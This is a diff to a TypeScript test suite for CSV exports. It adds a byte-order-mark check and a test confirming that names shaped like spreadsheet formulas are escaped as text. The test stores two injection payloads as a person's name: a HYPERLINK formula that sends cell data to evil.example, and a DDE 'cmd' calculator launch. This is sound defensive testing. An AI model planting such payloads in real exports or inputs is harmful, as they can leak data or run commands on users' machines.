@@ -1,4 +1,8 @@
+import express from 'express';
+import request from 'supertest';
 import { AgencyKind } from '../libs/access/src';
+import { RequestContext } from '../libs/platform/src';
+import { CsvStreamService } from '../libs/reports/src/exports/csv-stream.service';
 import { anAgency } from './support/factories';
 import { aChildEpisode, aService, ReportWorld } from './support/report-fixtures';
 import { startTestApp, TestApp } from './support/test-app';
@@ -12,9 +16,11 @@ const SIGNALS = `query ($filters: SignalsOverviewFiltersInput) {
 const shown = (value: number) => ({ value, suppressed: false });
 const SUPPRESSED = { value: null, suppressed: true };
 
-/** A CSV body as rows of fields (the exports never quote these simple values). */
+const BOM = '\uFEFF';
+/** A CSV body (after its byte order mark) as rows of fields (the exports never quote these simple values). */
 const parse = (text: string) =>
   text
+    .replace(/^\uFEFF/, '')
     .trim()
     .split('\r\n')
     .map((line) => line.split(','));
@@ -148,6 +154,7 @@ describe('Signals overview and CSV exports', () => {
     expect(res.status).toBe(200);
     expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
     expect(res.headers['content-disposition']).toBe('attachment; filename="signals-overview.csv"');
+    expect(res.body.startsWith(`${BOM}kind,measure,value,suppressed\r\n`)).toBe(true); // Excel reads it as UTF-8
     const rows = parse(res.body);
     expect(rows[0]).toEqual(['kind', 'measure', 'value', 'suppressed']);
     expect(rows).toContainEqual(['ALL', 'open', '8', '']);
@@ -167,6 +174,8 @@ describe('Signals overview and CSV exports', () => {
     expect(res.status).toBe(200);
     expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
     expect(res.headers['content-disposition']).toBe('attachment; filename="cin-census-2025-01-01-2025-06-30.csv"');
+    expect(res.body.startsWith(`${BOM}child_id,`)).toBe(true);
+    expect(res.body.indexOf(BOM, 1)).toBe(-1); // once, at the start, however many batches
     const [header, ...rows] = parse(res.body);
     expect(header).toEqual([
       'child_id',
@@ -225,6 +234,55 @@ describe('Signals overview and CSV exports', () => {
     const rows = parse(res.body);
     expect(rows).toHaveLength(1 + 2500 + 1); // header, the bulk children, and the one from beforeAll
     expect(new Set(rows.slice(1).map((r) => r[1])).size).toBe(2501);
+  });
+
+  it('writes a person named like a spreadsheet formula as text, never as a formula', async () => {
+    const names = { given: '=HYPERLINK("http://evil.example/?x="&A1,"Open")', family: "+cmd|' /C calc'!A0" };
+    const family = await w.family();
+    const child = await aChildEpisode(w, family, { openedOn: '2025-03-01' });
+    await t.dataSource.query(`UPDATE person SET given_name = $1, family_name = $2 WHERE id = $3`, [names.given, names.family, child.childId]);
+
+    // The census names nobody, so such a child's row is codes and ids only.
+    const census = await download('/exports/cin-census.csv?from=2025-01-01&to=2025-06-30', w.managerA.token);
+    expect(parse(census.body).find((r) => r[0] === child.childId)).toEqual([
+      child.childId,
+      child.episodeId,
+      'CIN',
+      '2025-03-01',
+      '2025-03-01',
+      '10',
+      '',
+      '',
+      '',
+      '',
+      '',
+      '',
+    ]);
+    expect(census.body).not.toMatch(/HYPERLINK|cmd\|/);
+
+    // No export carries free text today, so the streaming writer is fed one directly: the same
+    // service, a real cursor over the real row, into a real HTTP response.
+    const csv = t.app.get(CsvStreamService);
+    const names$ = express().get('/names.csv', (_req, res, next) => {
+      const download = { name: 'test-names', filename: 'names.csv', columns: ['given_name', 'family_name', 'figure'], filters: {} };
+      csv
+        .streamQuery(RequestContext.system('test'), res, download, {
+          sql: 'SELECT given_name, family_name, -3 AS figure FROM person WHERE id = $1',
+          params: [child.childId],
+        })
+        .catch(next);
+    });
+    const res = await request(names$)
+      .get('/names.csv')
+      .buffer(true)
+      .parse((r, done) => {
+        let text = '';
+        r.setEncoding('utf8');
+        r.on('data', (chunk: string) => (text += chunk));
+        r.on('end', () => done(null, text));
+      });
+    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
+    expect(res.body).toBe(`${BOM}given_name,family_name,figure\r\n"'=HYPERLINK(""http://evil.example/?x=""&A1,""Open"")",'+cmd|' /C calc'!A0,-3\r\n`);
   });
 
   it('refuses exports to roles without access, with JSON errors carrying the same codes', async () => {
